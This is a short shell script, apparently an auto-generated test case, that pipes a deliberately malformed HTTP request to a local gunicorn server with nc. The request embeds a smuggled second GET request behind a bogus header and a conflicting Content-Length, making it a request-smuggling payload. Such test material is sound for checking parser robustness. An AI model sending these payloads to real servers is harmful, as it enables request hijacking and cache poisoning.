#!/bin/sh
# desync/host-invalid/smuggled-request via byte.delete against gunicorn
printf 'OST / HTTP/1.1\r\nHost::chunked\r\nContent-Length:4\r\n\r\n29\r\nGET / HTTP/1.1\r\n\r\n' | nc 127.0.0.1 ${PORT:-39237}
